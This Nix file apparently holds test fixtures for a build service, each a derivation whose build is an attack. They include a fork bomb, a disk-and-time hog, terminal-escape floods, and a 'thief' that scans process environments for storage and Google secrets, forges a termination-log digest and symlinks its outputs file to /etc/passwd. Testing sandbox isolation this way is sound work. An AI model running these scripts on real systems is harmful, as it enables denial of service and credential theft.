# Packages whose builds are attacks, with the bootstrap of the demo's set (nix/demo).
{ system ? builtins.currentSystem, ... }:
let
  bootstrap = ./bootstrap;
  attack = name: script: derivation {
    inherit name system;
    builder = "${bootstrap}/bin/sh";
    args = [ "-c" script ];
    PATH = "${bootstrap}/bin";
  };
in
{
  # Until nothing can be forked any more, which ends the shell.
  fork-bomb = attack "fork-bomb" "while :; do sleep 1000 > /dev/null 2>&1 & done";

  # More than the class allows, and then no end.
  giant = attack "giant" ''
    mkdir "$out"
    dd if=/dev/zero of="$out/zeros" bs=1M count=150
    sleep 1000
  '';

  # Megabytes of lines that would steer a terminal.
  flood = attack "flood" ''
    yes "$(printf '\033[2J\033]0;flood\007')flood" | head -c 3000000
    exit 1
  '';

  # The same as a single line.
  line = attack "line" "tr '\\0' x < /dev/zero | head -c 3000000; echo; echo end; exit 1";

  # Looks for what is not its own, says what it found, and claims to have succeeded.
  thief = attack "thief" ''
    for place in /var/run/secrets /credentials; do
      [ ! -e "$place" ] || echo "found $place"
    done
    cat /proc/[0-9]*/environ | tr '\0' '\n' | grep -E '^(NIXIMAGE_BUCKET|STORAGE_|GOOGLE_)'
    printf '{"v":1,"digest":"sha256:%064d"}' 0 > /dev/termination-log
    rm -f /build/outputs.json && ln -s /etc/passwd /build/outputs.json
    echo "user $(id -u), escalation $(grep NoNewPrivs /proc/self/status | tr -d '\t')"
    exit 1
  '';
}
